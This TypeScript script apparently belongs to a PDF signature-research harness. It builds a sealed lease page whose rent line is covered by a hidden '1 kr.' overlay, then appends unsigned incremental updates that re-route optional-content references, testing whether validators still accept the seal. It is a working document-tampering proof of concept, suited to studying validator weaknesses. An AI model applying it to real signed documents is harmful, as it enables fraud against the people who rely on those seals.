// a18: a17 M1's route (450abaf) through a form XObject's /OC and an OCMD's /OCGs. The sealed page shows "Husleje:
// 9.500 kr." and draws form XObject /X1 (a white box over it and "Husleje: 1 kr.") under optional content that is off:
// /OC names group B directly (xobj-*) or an OCMD whose /OCGs is [B] (ocmd-*), and /OFF [B]. One later revision, no key:
//   direct: B moves to B' in /OCGs, /Order, /OFF, and the XObject's /OC (or the OCMD's /OCGs) gets a direct copy of B;
//   move:   B moves to B' everywhere (a genuine renaming: every reader still hides /X1; should stay TOTAL-PASSED).
//   npx tsx scripts/attack-s13/oc-routes.ts <honest|ocmd-direct|ocmd-move|xobj-direct|xobj-move>
import { PDFArray, PDFDict, PDFName, PDFRawStream, PDFRef, PDFString } from "pdf-lib";
import { appendIncrementalUpdate, loadForUpdate } from "../generator/incremental.js";
import { LEASE_LINES, judgeOptionalContent, ocOriginal, sealWithOptionalContent } from "../attack-s11/optional-content.js";

const mode = process.argv[2] ?? "ocmd-direct";
const MODES = ["honest", "ocmd-direct", "ocmd-move", "xobj-direct", "xobj-move"];
if (!MODES.includes(mode)) throw new Error(`mode: ${MODES.join("|")}, not ${mode}`);
const viaOcmd = mode.startsWith("ocmd") || mode === "honest";

/** The original: the rent, and form XObject /X1 over it under optional content that is off (no address line). */
const original = await ocOriginal(LEASE_LINES.slice(0, 4), (ctx, font) => {
  const b = ctx.register(ctx.obj({ Type: "OCG", Name: PDFString.of("Tillaeg") }));
  const oc = viaOcmd ? ctx.register(ctx.obj({ Type: "OCMD", OCGs: [b], P: "AnyOn" })) : b;
  const x1 = ctx.register(
    ctx.flateStream("1 g 55 645 320 20 re f 0 g BT /F1 12 Tf 60 650 Td (Husleje: 1 kr. pr. maaned) Tj ET", {
      Type: "XObject",
      Subtype: "Form",
      BBox: [0, 0, 595, 842],
      Resources: { Font: { F1: font.ref } },
      OC: oc,
    }),
  );
  return {
    ops: ["BT /F1 12 Tf 60 650 Td (Husleje: 9.500 kr. pr. maaned) Tj ET", "/X1 Do"],
    resources: { XObject: { X1: x1 } },
    ocProperties: { OCGs: [b], D: { Order: [b], OFF: [b] } },
  };
});

let x1Ref!: PDFRef, ocRef!: PDFRef, B!: PDFRef;
const s = await sealWithOptionalContent(original, (pre) => {
  x1Ref = pre.getPage(0).node.lookup(PDFName.of("Resources"), PDFDict).lookup(PDFName.of("XObject"), PDFDict).get(PDFName.of("X1")) as PDFRef;
  ocRef = (pre.context.lookup(x1Ref) as PDFRawStream).dict.get(PDFName.of("OC")) as PDFRef;
  B = viaOcmd ? ((pre.context.lookup(ocRef) as PDFDict).lookup(PDFName.of("OCGs"), PDFArray).get(0) as PDFRef) : ocRef;
  return pre.context.obj({ OCGs: [B], D: { Order: [B], OFF: [B] } });
});
const { sealed } = s;

let out = sealed;
if (mode !== "honest") {
  const doc = await loadForUpdate(sealed);
  const ctx = doc.context;
  const objects: { num: number; body: PDFDict | PDFRawStream }[] = [];
  const directB = () => (ctx.lookup(B) as PDFDict).clone(ctx);
  // B moves to B' (a new object with B's content) wherever the catalog lists it: B is no longer reached.
  const moved = ctx.register(directB());
  objects.push({ num: moved.objectNumber, body: ctx.lookup(moved) as PDFDict });
  const c = doc.catalog.clone(ctx);
  c.set(PDFName.of("OCProperties"), ctx.obj({ OCGs: [moved], D: { Order: [moved], OFF: [moved] } }));
  objects.push({ num: (ctx.trailerInfo.Root as PDFRef).objectNumber, body: c });
  const target = mode.endsWith("direct") ? directB() : moved;
  if (viaOcmd) {
    const m = (ctx.lookup(ocRef) as PDFDict).clone(ctx);
    m.set(PDFName.of("OCGs"), ctx.obj([target]));
    objects.push({ num: ocRef.objectNumber, body: m });
  } else {
    const s = ctx.lookup(x1Ref) as PDFRawStream;
    const d = s.dict.clone(ctx);
    d.set(PDFName.of("OC"), target);
    objects.push({ num: x1Ref.objectNumber, body: PDFRawStream.of(d, s.contents) });
  }
  out = appendIncrementalUpdate(sealed, { objects: objects.sort((x, y) => x.num - y.num) }).bytes;
}

await judgeOptionalContent(`s13-oc-${mode}`, mode, s, out);
